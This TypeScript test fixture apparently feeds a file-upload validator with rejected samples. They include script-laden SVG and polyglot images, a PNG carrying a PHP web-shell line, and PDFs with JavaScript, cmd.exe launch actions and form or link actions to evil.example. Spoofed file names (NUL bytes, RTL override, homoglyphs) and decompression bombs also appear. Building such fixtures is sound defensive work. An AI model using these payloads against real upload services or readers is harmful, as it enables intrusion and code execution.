import sharp from 'sharp'
import type { Refusal } from '#app/files/refusal.ts'
import { badScans } from './bad-scans.ts'
import { claimedPng, jpeg, movingPng, png } from './image-samples.ts'
import { flate, noise, objectStream, packedPdf, pdf, stream } from './pdf-samples.ts'

export type Bad = [what: string, refusal: Refusal, name: string, bytes: Uint8Array]

const text = (content: string) => Buffer.from(content, 'latin1')
const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const MAX = 5 * 1024 * 1024

/** An archive with an empty directory whose comment reaches to the end of the file. */
const zipTail = (rest: number) => {
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(rest, 20)
  return end.toString('latin1')
}

const tinyBmp = Buffer.concat([text('BM'), Buffer.alloc(60)])
const icon = Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(60)])

async function badImages(): Promise<Bad[]> {
  const [photo, drawing] = [await jpeg(), await png()]
  const [webp, gif, tiff] = [
    await sharp(photo).webp().toBuffer(),
    await sharp(photo).gif().toBuffer(),
    await sharp(photo).tiff().toBuffer(),
  ]
  return [
    ['a file without a byte', 'empty', 'letter.pdf', new Uint8Array()],
    ['one byte', 'mismatch', 'letter.jpg', text('x')],
    ['one byte more than allowed', 'tooLarge', 'letter.jpg', Buffer.concat([photo, Buffer.alloc(MAX + 1 - photo.length)])],
    ['an SVG with a script', 'wrongType', 'a.svg', text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
    ['an SVG called a picture', 'mismatch', 'a.png', text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
    ['a web page called a picture', 'mismatch', 'a.jpg', text('<!doctype html><script>alert(1)</script>')],
    ['a WebP', 'wrongType', 'a.webp', webp],
    ['a bitmap', 'wrongType', 'a.bmp', tinyBmp],
    ['a GIF called a JPEG', 'mismatch', 'a.jpg', gif],
    ['a GIF that is a script as well', 'mismatch', 'a.png', text('GIF89a/*\0\0*/=1;alert(1)')],
    ['a WebP called a JPEG', 'mismatch', 'a.jpeg', webp],
    ['a TIFF called a JPEG', 'mismatch', 'scan.jpg', tiff],
    ['a bitmap called a PNG', 'mismatch', 'a.png', tinyBmp],
    ['an icon called a PNG', 'mismatch', 'a.png', icon],
    ['a JPEG called PNG', 'mismatch', 'a.png', photo],
    ['a PNG called JPEG', 'mismatch', 'a.jpg', drawing],
    ['a JPEG called PDF', 'mismatch', 'a.pdf', photo],
    ['a JPEG called a program', 'wrongType', 'a.exe', photo],
    ['a JPEG whose last extension is a program', 'wrongType', 'letter.jpg.exe', photo],
    ['a JPEG with a page behind', 'mismatch', 'a.jpg', Buffer.concat([photo, text('<html><body>hi</body></html>')])],
    ['a JPEG with a script behind', 'mismatch', 'a.jpg', Buffer.concat([photo, text('\n<script>alert(1)</script>')])],
    ['a PNG with PHP behind', 'mismatch', 'a.png', Buffer.concat([drawing, text('<?php system($_GET[0]);')])],
    ['a script before a JPEG', 'mismatch', 'a.jpg', Buffer.concat([text('<script>alert(1)</script>'), photo])],
    [
      'a JPEG cut in half',
      'damaged',
      'a.jpg',
      (
        await sharp(noise(300 * 300 * 3), { raw: { width: 300, height: 300, channels: 3 } })
          .jpeg()
          .toBuffer()
      ).subarray(0, 20_000),
    ],
    [
      'a PNG cut in half',
      'damaged',
      'a.png',
      (
        await sharp(noise(100 * 100 * 3), { raw: { width: 100, height: 100, channels: 3 } })
          .png()
          .toBuffer()
      ).subarray(0, 15_000),
    ],
    ['the first bytes of a JPEG only', 'damaged', 'a.jpg', Buffer.concat([photo.subarray(0, 20), noise(500)])],
    ['a PNG with noise inside', 'damaged', 'a.png', Buffer.concat([drawing.subarray(0, 60), noise(400)])],
    ['a flood of pixels', 'tooManyPixels', 'a.png', claimedPng(30_000, 30_000)],
    ['a picture just over the limit', 'tooManyPixels', 'a.png', await png(8000, 5001)],
    ['a moving PNG', 'moving', 'a.png', await movingPng()],
  ]
}

function badNames(good: Buffer): Bad[] {
  return [
    ['no name', 'badName', '', good],
    ['no extension', 'badName', 'letter', good],
    ['an extension only', 'badName', '.jpg', good],
    ['dots only', 'badName', '../..', good],
    ['a NUL byte before another extension', 'badName', 'letter.exe\0.jpg', good],
    ['a NUL byte after the extension', 'badName', 'letter.jpg\0.exe', good],
    ['a name of 5,000 characters', 'badName', `${'a'.repeat(5000)}.jpg`, good],
    ['unseen characters only', 'badName', '\u202e\u200b\u2066.jpg', good],
    ['a name turned round to hide a program', 'wrongType', 'letter\u202egpj.exe', good],
    ['an extension in another alphabet', 'badName', 'letter.jрg', good],
    ['a stream of another file system', 'badName', 'letter.jpg::$DATA', good],
    ['an extension nobody knows', 'wrongType', 'a.valueof', good],
  ]
}

function activePdfs(): Bad[] {
  const refused =
    (refusal: Refusal) =>
    (what: string, bytes: Uint8Array): Bad => [what, refusal, 'letter.pdf', bytes]
  const [active, script, launch, attached] = [refused('pdfActive'), refused('pdfScript'), refused('pdfLaunch'), refused('pdfAttached')]
  return [
    script('a script on opening', pdf({ catalog: `/OpenAction ${js}` })),
    script('a script in another object', pdf({ catalog: '/OpenAction 900 0 R', objects: [`900 0 obj\n${js}\nendobj\n`] })),
    script('a script in the tree of names', pdf({ catalog: '/Names << /JavaScript 900 0 R >>' })),
    script('a script whose name is escaped', pdf({ catalog: '/AA << /WC << /S /J#61vaScr#69pt /J#53 (x) >> >>' })),
    script('a script behind an escaped key', pdf({ objects: ['900 0 obj\n<< /#4a#53 (app.alert) >>\nendobj\n'] })),
    active('a comment between key and value', pdf({ objects: ['900 0 obj\n<< /S%x\n/JavaScript >>\nendobj\n'] })),
    script('no white space between names', pdf({ objects: ['900 0 obj<</S/JavaScript/JS(x)>>endobj\n'] })),
    active('the kind of action in another object', pdf({ objects: ['900 0 obj\n<< /S 901 0 R >>\nendobj\n901 0 obj\n/Launch\nendobj\n'] })),
    launch('a program to launch', pdf({ objects: ['900 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'] })),
    active('a form that sends', pdf({ objects: ['900 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n'] })),
    attached('an attached file', pdf({ objects: [stream(900, '/Type /EmbeddedFile', 'MZ...')] })),
    attached(
      'an attached file without a type',
      pdf({ objects: ['900 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 901 0 R >> >>\nendobj\n'] }),
    ),
    attached('a tree of attached files', pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 900 0 R] >> >>' })),
    active('rich media', pdf({ objects: ['900 0 obj\n<< /Type /Annot /Subtype /RichMedia >>\nendobj\n'] })),
    active('an XFA form', pdf({ catalog: '/AcroForm << /XFA [(template) 900 0 R] >>' })),
    active(
      'a web address opened with a page',
      pdf({ objects: ['900 0 obj\n<< /AA << /O << /S /URI /URI (https://evil.example) >> >> >>\nendobj\n'] }),
    ),
    active('something done on closing', packedPdf({ 7: '<< /S /URI /URI (https://evil.example) >>' }, '/AA << /WC 7 0 R >>')),
    script('a script in a packed tree of names', packedPdf({ 7: '<< /Names [(a) 8 0 R] >>', 8: js }, '/Names << /JavaScript 7 0 R >>')),
    attached('a file attached in packed objects', packedPdf({ 7: '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>' })),
    launch(
      'a launch in a later update',
      Buffer.concat([
        pdf(),
        text('20 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\nxref\n0 0\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n'),
      ]),
    ),
    active('a web address opened by itself', pdf({ catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' })),
    script('a link that is a script', pdf({ objects: ['900 0 obj\n<< /S /URI /URI (javascript:alert\\(1\\)) >>\nendobj\n'] })),
    script('a script in a packed object', packedPdf({ 7: js })),
    script('a script in a packed object with escapes', packedPdf({ 7: '<< /S /Java#53cript /J#53 (x) >>' })),
    launch(
      'a launch in a packed object that is not declared',
      pdf({ objects: [stream(900, '/N 1 /First 4 /Filter /FlateDecode', flate('7 0 << /S /Launch /F (cmd.exe) >>'))] }),
    ),
    active(
      'packed objects in a coding we do not open',
      pdf({ objects: [stream(900, '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', text(`7 0 ${js}`).toString('hex'))] }),
    ),
    active(
      'packed objects whose coding is named far away',
      pdf({
        objects: [
          stream(900, `/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode %${'x'.repeat(9000)}\n`, text(`7 0 ${js}`).toString('hex')),
        ],
      }),
    ),
    active(
      'packed objects that are not what they say',
      pdf({ objects: [stream(900, '/Type /ObjStm /N 40 /First 4 /Filter /FlateDecode', flate(`7 0 ${js}`))] }),
    ),
    script(
      'objects hidden in a picture',
      pdf({ objects: [stream(900, '/Subtype /Image /Filter /DCTDecode', `xx 7 0 obj << /JS (x) >> endobj xx`)] }),
    ),
    script(
      'packed objects inside another stream',
      pdf({ objects: [`900 0 obj (a stream \n of words)\nendobj\n`, objectStream(901, { 7: js })] }),
    ),
    active('an action of packed objects on opening', packedPdf({ 7: '<< /S /URI /URI (https://evil.example) >>' }, '/OpenAction 7 0 R')),
  ]
}

function badPdfs(): Bad[] {
  const bad =
    (refusal: Refusal) =>
    (what: string, bytes: Uint8Array): Bad => [what, refusal, 'letter.pdf', bytes]
  const [mismatch, damaged, locked] = [bad('mismatch'), bad('damaged'), bad('pdfEncrypted')]
  const zipped = zipTail(0)
  return [
    locked('a locked PDF', pdf({ trailer: '/Encrypt 900 0 R', objects: ['900 0 obj\n<< /Filter /Standard /V 2 >>\nendobj\n'] })),
    locked(
      'a lock in the stream of references',
      pdf({ objects: [stream(900, '/Type /XRef /Size 1 /W [1 2 1] /Encrypt 901 0 R /Filter /FlateDecode', flate(Buffer.alloc(40, 2)))] }),
    ),
    locked('a locked PDF with an escaped key', pdf({ trailer: '/Encr#79pt << /Filter /Standard >>' })),
    mismatch('a test virus called PDF', text('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*')),
    mismatch('a program called PDF', Buffer.concat([text('MZ'), noise(2000)])),
    mismatch('a header and a web page', text('%PDF-1.7\n<html><script>alert(1)</script></html>\nstartxref\n0\n%%EOF')),
    mismatch('a web page before', Buffer.concat([text('<html>hi</html>\n'), pdf()])),
    mismatch('a web page in the header', pdf({ header: '%PDF-1.7\n<!doctype html><script>alert(1)</script>\n' })),
    mismatch('a web page behind', pdf({ tail: '<html><script>alert(1)</script></html>' })),
    mismatch('a web page behind, and a second end', pdf({ tail: '<html>hi</html>\n%%EOF\n' })),
    mismatch('an archive behind', pdf({ tail: zipped })),
    mismatch('an archive around the end', pdf({ objects: [`% ${zipTail(0)}`], tail: `${zipTail(6)}%%EOF\n` })),
    mismatch('an archive in front', pdf({ header: '%PDF-1.7\nPK\x03\x04\x14\0\0\0' })),
    mismatch('a version nobody has', text('%PDF-9.x\n%%EOF')),
    mismatch('a Word file called PDF', text(`PK\x03\x04${'\0'.repeat(200)}`)),
    damaged('a header only', text('%PDF-1.7\n')),
    damaged('a PDF cut in half', pdf().subarray(0, 400)),
    damaged('no page', pdf({ pages: 0 })),
    damaged('a long empty tail', pdf({ tail: '\0'.repeat(5000) })),
    damaged('thousands of streams', pdf({ objects: [`900 0 obj\n${'stream\n'.repeat(6000)}endstream\nendobj\n`] })),
    bad('pdfActive')(
      'packed objects that inflate without end',
      pdf({ objects: [stream(900, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', flate(Buffer.alloc(40 * 1024 * 1024, 0x20)))] }),
    ),
    bad('tooManyPages')('51 pages', pdf({ pages: 51 })),
  ]
}

export async function badFiles(): Promise<Bad[]> {
  return [...(await badScans()), ...(await badImages()), ...badNames(await jpeg()), ...badPdfs(), ...activePdfs()]
}
